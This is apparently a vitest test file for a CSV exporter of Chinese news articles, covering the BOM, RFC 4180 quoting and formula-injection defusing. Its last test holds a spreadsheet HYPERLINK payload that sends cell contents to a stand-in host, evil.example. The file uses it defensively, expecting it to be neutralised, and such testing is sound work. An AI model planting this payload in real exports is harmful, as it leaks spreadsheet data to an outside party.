import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, articlesToCsv, csvCell } from './csv';
import { hostileArticle, plainArticle } from './test-articles';

/** RFC 4180 reader for the tests: fields, quoted fields with "" and line breaks, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else if (c === '\n' || c === '\r') throw new Error(`bare line break outside quotes at ${i}`);
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('CSV export', () => {
  it('starts with a UTF-8 BOM and a Chinese header, one row per article', () => {
    const csv = articlesToCsv([plainArticle, plainArticle]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Array.from(new TextEncoder().encode(csv).slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]));
    expect(row).toMatchObject({ 标题: '老旧小区加装电梯进展顺利', 作者: '王晓明、李红、赵一', 摄影: '陈光', 版次: '3', 日期: '2024-03-05' });
    expect(row['正文']).toBe('本报讯 今年以来，我区加快推进老旧小区改造。\n截至目前，已有三十二部电梯投入使用，居民出行更方便。');
  });

  it('quotes per RFC 4180: commas, doubled quotes, line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('说"好"')).toBe('"说""好"""');
    expect(csvCell('一\n二')).toBe('"一\n二"');
    expect(csvCell('平常')).toBe('平常');
  });

  it('defuses formulas (= + - @ tab CR and their full-width forms)', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1', '＋1', '－1', '＠x']) expect(csvCell(s).replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('keeps hostile text inside its cells and never lets a cell start a formula', () => {
    const rows = parseCsv(articlesToCsv([hostileArticle]).slice(1));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(CSV_COLUMNS.length);
    for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]));
    expect(row['标题']).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"点我")');
    expect(row['报纸']).toBe('报,纸 名');
    expect(row['链接']).toBe('');
    expect(row['正文']!.split('\n')).toHaveLength(5);
  });
});
